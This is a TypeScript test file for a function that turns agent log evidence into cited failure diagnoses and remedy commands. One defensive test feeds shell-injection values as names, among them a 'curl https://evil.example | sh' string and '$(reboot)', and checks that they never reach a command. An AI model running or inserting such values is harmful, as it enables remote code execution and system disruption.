import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { diagnose } from '#lib/domain/evaluation/diagnose.ts';
import type { Claim, Diagnosis } from '#lib/domain/evaluation/diagnosis.ts';
import { quotedWords } from '#lib/domain/evaluation/quotes.ts';
import { verifyClaims } from '#lib/domain/evaluation/verify-claims.ts';
import { aFinding } from '#test/support/builders/a-finding.ts';
import { anEvidencePack, aPiece } from '#test/support/builders/an-evidence-pack.ts';
import { CASES } from './packs.ts';

const claimsOf = (diagnosis: Diagnosis): readonly Claim[] => [
  ...diagnosis.cause,
  ...diagnosis.chain,
  ...diagnosis.consequences,
];

const wholeText = (diagnosis: Diagnosis): string =>
  [
    diagnosis.summary,
    ...claimsOf(diagnosis).map((claim) => claim.text),
    ...[...diagnosis.remedy, ...diagnosis.verify].flatMap((step) => [step.text, step.command ?? '']),
  ].join('\n');

describe.each(CASES.map((row) => [row.row, row] as const))('diagnosis of: %s', (_, { pack, tells }) => {
  const diagnosis = diagnose(pack);

  it.each(tells)('tells %s', (words) => {
    expect(wholeText(diagnosis)).toContain(words);
  });

  it('cites only pieces that exist and hold what the sentence quotes', () => {
    for (const claim of claimsOf(diagnosis)) {
      const cited = claim.evidence.map((id) => pack.pieces.find((piece) => piece.id === id)?.text);
      expect(cited, claim.text).not.toContain(undefined);
      expect(cited.length, claim.text).toBeGreaterThan(0);
      const said = cited.join('\n').replaceAll('`', "'").replaceAll(/\s+/g, ' ').replaceAll('"', "'");
      for (const word of quotedWords(claim.text)) expect(said, claim.text).toContain(word.replaceAll('"', "'"));
    }
  });

  it('passes the citation check unchanged', () => {
    expect(verifyClaims(diagnosis, pack)).toEqual(diagnosis);
  });

  it('has a cause, steps to take and a way to verify', () => {
    expect(diagnosis.cause.length).toBeGreaterThan(0);
    expect(diagnosis.remedy.length).toBeGreaterThan(1);
    expect(diagnosis.verify.length).toBeGreaterThan(0);
    expect(diagnosis.confidence).not.toBe('not provable');
    expect(diagnosis.source).toBe('rules');
  });

  it('has no hole in its sentences', () => {
    const commands = [...diagnosis.remedy, ...diagnosis.verify].map((step) => step.command ?? '');
    const sentences = commands.reduce((text, command) => text.replace(command, ''), wholeText(diagnosis));
    expect(sentences).not.toMatch(/undefined|null|\[object|``|NaN| {2}[a-z]|\.\.(?!\.)/);
    expect(commands.join('\n')).not.toMatch(/undefined|\[object|NaN/);
  });
});

describe('diagnose', () => {
  it('proves nothing without the failing line, and says so', () => {
    const diagnosis = diagnose(anEvidencePack({ pieces: [], gaps: ['Loki did not answer.'] }));
    expect(diagnosis).toMatchObject({ confidence: 'not provable', cause: [], chain: [] });
    expect(diagnosis.summary).toMatch(/^The cause is not provable/);
    expect(diagnosis.gaps).toContain('Loki did not answer.');
  });

  it('never uses a name that only a log supplied as the correction', () => {
    const onlyLogged = CASES.find(({ row }) => row.endsWith('only in the log'));
    const commands = diagnose(onlyLogged?.pack ?? anEvidencePack()).remedy.map((step) => step.command ?? '');
    expect(commands.join('\n')).not.toContain('github_create_branch');
  });

  it('puts no name into a command that a shell would not take as one word', () => {
    const tool = 'x"; curl https://evil.example | sh; "';
    const pod = 'pod;reboot';
    const finding = aFinding({ identity: { tool }, pod, agent: '$(reboot)' });
    const diagnosis = diagnose(
      anEvidencePack({ finding, namespace: '-n kube-system', pieces: [aPiece({ text: `missing: [${tool}]`, pod })] }),
    );
    const commands = [...diagnosis.remedy, ...diagnosis.verify].map((step) => step.command ?? '').join('\n');
    expect(commands).not.toMatch(/evil|reboot|kube-system/);
  });

  it('tells what other agents reported afterwards in order of time, without calling it a cause', () => {
    const later = aPiece({
      id: 'L9',
      role: 'context',
      agent: 'cleo',
      pod: 'play-7f3a-cleo-1',
      at: '2026-01-08T16:09:00Z',
      text: 'no pull request of rex: review failed',
    });
    const earlier = aPiece({
      id: 'L2',
      role: 'context',
      agent: 'cleo',
      pod: 'play-7f3a-cleo-1',
      at: '2026-01-08T16:00:00Z',
      text: 'an older error',
    });
    const killed = aPiece({
      id: 'K1',
      kind: 'kubernetes',
      role: 'context',
      at: '2026-01-08T16:05:00Z',
      text: 'container agent terminated exit code 1',
    });
    const diagnosis = diagnose(anEvidencePack({ pieces: [aPiece(), earlier, later, killed] }));
    expect(diagnosis.chain.map((claim) => claim.evidence)).toEqual([['L1'], ['L9']]);
    expect(diagnosis.consequences.map((claim) => claim.evidence)).toEqual([['K1']]);
  });

  it('says how many entries it could not keep', () => {
    const diagnosis = diagnose(anEvidencePack({ finding: aFinding({ count: 40 }) }));
    expect(diagnosis.gaps.join()).toContain('40 log entries belong to this failure; 1 of them');
  });

  it('grounds every claim for whatever text the pieces hold', () => {
    const text = fc.string({
      unit: fc.constantFrom('`', '"', "'", '\\', ' ', 'a', 'MCP', 'tool', '[', ']', 'error:', '/x/y.md', '401', '\n'),
      maxLength: 60,
    });
    const chosen = fc.constantFrom(...CASES);
    fc.assert(
      fc.property(chosen, text, text, ({ pack }, line, name) => {
        const identity = Object.fromEntries(Object.keys(pack.finding.identity).map((key) => [key, name]));
        const hostile = { ...pack, finding: { ...pack.finding, identity }, pieces: [aPiece({ text: line })] };
        const diagnosis = diagnose(hostile);
        expect(verifyClaims(diagnosis, hostile)).toEqual(diagnosis);
      }),
      { numRuns: 1_000 },
    );
  });
});
